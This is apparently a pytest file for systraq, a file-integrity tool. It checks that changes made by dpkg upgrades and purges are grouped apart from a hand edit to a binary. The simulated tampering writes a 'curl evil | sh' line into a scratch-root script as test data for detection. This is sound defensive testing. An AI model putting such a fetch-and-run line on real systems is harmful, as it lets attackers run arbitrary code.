"""After a real package upgrade plus one binary changed by hand, the diff leads with the hand
change and folds the upgrade into one line; baseline --explained leaves only the hand change.

The packages are real .deb files built with dpkg-deb and installed, upgraded and purged
with dpkg in a scratch root (its own database and dpkg.log); systraq watches that root.
"""

from __future__ import annotations

import json
import os
import time

import pytest

from tests.conftest import Workspace
from tests.debkit import Deb, FakeRoot

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="dpkg --root needs root here")

TOOL_1 = Deb("tool", "1.0", {"/usr/bin/tool": b"#!/bin/sh\necho tool 1\n",
                             "/usr/bin/tool-helper": b"#!/bin/sh\necho helper\n",
                             "/usr/lib/tool/data.1": b"data one\n",
                             "/usr/lib/tool/libtool.so.1.0": b"ELF one\n",
                             "/usr/lib/tool/libtool.so.1": ("link", "libtool.so.1.0"),
                             "/etc/tool.conf": b"setting = 1\n"},
             conffiles=("/etc/tool.conf",))
TOOL_2 = Deb("tool", "2.0", {"/usr/bin/tool": b"#!/bin/sh\necho tool 2, longer\n",
                             "/usr/bin/tool-helper": b"#!/bin/sh\necho helper\n",
                             "/usr/lib/tool/data.2": b"data two\n",
                             "/usr/lib/tool/libtool.so.1.1": b"ELF two\n",
                             "/usr/lib/tool/libtool.so.1": ("link", "libtool.so.1.1"),
                             "/etc/tool.conf": b"setting = 1\n"},
             conffiles=("/etc/tool.conf",))
OTHER = Deb("other", "1.0", {"/usr/bin/other": b"#!/bin/sh\necho other\n"})
GONE = Deb("gone", "1.0", {"/usr/share/gone/file": b"gone\n"})


@pytest.fixture
def system(ws: Workspace) -> FakeRoot:
    """A root with three packages, watched by systraq, reported and baselined."""
    root = FakeRoot(ws.root / "sys")
    root.install(TOOL_1, OTHER, GONE)
    time.sleep(1.1)  # dpkg.log has whole seconds: the install falls before the snapshot
    ws.write_list("root", str(root.path / "usr"), str(root.path / "etc"))
    (ws.config / "systraq.conf").write_text(f'[packages]\nroot = "{root.path}"\n')
    # The md5 cache remembers which package shipped each file (for the purge below).
    assert ws.run("packages").returncode == 0
    for argv in (["snapshot", "--mode", "root"], ["diff"], ["baseline"]):
        done = ws.run(*argv)
        assert done.returncode in (0, 1), done.stderr
    time.sleep(1.1)  # the package operations fall after the reported snapshot
    return root


def upgrade_and_tamper(root: FakeRoot) -> None:
    root.install(TOOL_2)
    root.remove("gone", purge=True)
    root.file("/usr/bin/other").write_bytes(b"#!/bin/sh\necho other; curl evil | sh\n")


def test_diff_leads_with_the_hand_change_and_folds_the_upgrade(ws: Workspace,
                                                               system: FakeRoot) -> None:
    upgrade_and_tamper(system)
    assert ws.run("snapshot", "--mode", "root").returncode == 0
    done = ws.run("diff")
    assert done.returncode == 1, done.stderr
    text = done.stdout
    lines = text.splitlines()
    outside = lines.index("changed outside dpkg (1):")
    assert lines[outside + 1].startswith(f"  ~ {system.path}/usr/bin/other  [other 1.0: ")
    explained = [ln for ln in lines if ln.startswith("explained by package operations")]
    assert explained and outside < lines.index(explained[0])
    tool_lines = [ln for ln in lines if ln.startswith("  tool 1.0 → 2.0 (dpkg, ")]
    assert len(tool_lines) == 1, text
    assert lines.index(tool_lines[0]) > outside
    removed = [ln for ln in lines if ln.startswith("  gone 1.0 removed (dpkg, ")]
    assert len(removed) == 1, text
    assert "files of no package" not in text
    assert lines[-1].startswith("total: ") and ", 1 unexplained, " in lines[-1]


def test_json_carries_the_grouping_and_what_explains_each_change(ws: Workspace,
                                                                 system: FakeRoot) -> None:
    upgrade_and_tamper(system)
    ws.run("snapshot", "--mode", "root")
    document = json.loads(ws.run("diff", "--format", "json").stdout)
    by_path = {c["path"]: c for c in document["changes"]}
    hand = by_path[f"{system.path}/usr/bin/other"]
    assert (hand["group"], hand["package"], hand["explained_by"]) == ("outside", "other", None)
    upgraded = by_path[f"{system.path}/usr/bin/tool"]
    assert upgraded["group"] == "explained"
    assert upgraded["explained_by"]["package"] == "tool"
    assert (upgraded["explained_by"]["from"], upgraded["explained_by"]["to"]) == ("1.0", "2.0")
    assert set(upgraded["explained_by"]) == {"package", "from", "to", "at", "command"}
    assert by_path[f"{system.path}/usr/share/gone/file"]["group"] == "removed"
    assert by_path[f"{system.path}/usr/lib/tool/libtool.so.1"]["group"] == "explained"
    assert document["unexplained"] == 1


def test_mail_subject_says_how_many_changes_are_unexplained(ws: Workspace,
                                                            system: FakeRoot) -> None:
    from systraq.changes.diff import run_diff
    from systraq.changes.report import subject
    from systraq.config import load_settings

    upgrade_and_tamper(system)
    ws.run("snapshot", "--mode", "root")
    shown = []
    run_diff(load_settings(ws.config, ws.state), ["root"], show=shown.append, record=False)
    assert subject(shown[0]).endswith(", 1 unexplained")


def test_baseline_explained_leaves_only_the_hand_change(ws: Workspace,
                                                        system: FakeRoot) -> None:
    upgrade_and_tamper(system)
    ws.run("snapshot", "--mode", "root")
    done = ws.run("baseline", "--explained")
    assert done.returncode == 0, done.stderr
    assert "explained by package operations; 1 still differs" in done.stdout
    left = ws.run("diff", "--baseline", "--format", "json")
    paths = [c["path"] for c in json.loads(left.stdout)["changes"]]
    assert paths == [f"{system.path}/usr/bin/other"]


def test_a_file_edited_after_the_upgrade_snapshot_is_not_explained(ws: Workspace,
                                                                   system: FakeRoot) -> None:
    system.install(TOOL_2)
    ws.run("snapshot", "--mode", "root")
    # Replaced after the snapshot by something else of the same size: the snapshot's
    # content can no longer be shown to be what the package ships.
    target = system.file("/usr/bin/tool")
    target.write_bytes(b"#!/bin/sh\necho TOOL 2, longer\n")
    document = json.loads(ws.run("diff", "--format", "json").stdout)
    by_path = {c["path"]: c for c in document["changes"]}
    change = by_path[f"{system.path}/usr/bin/tool"]
    assert change["group"] == "outside"
    assert change["reason"] == "changed again since the snapshot"


def test_attribution_can_be_turned_off(ws: Workspace, system: FakeRoot) -> None:
    upgrade_and_tamper(system)
    (ws.config / "systraq.conf").write_text(
        f'[packages]\nroot = "{system.path}"\nattribute = false\n')
    ws.run("snapshot", "--mode", "root")
    text = ws.run("diff").stdout
    assert "explained by package operations" not in text
    assert "changed (" in text
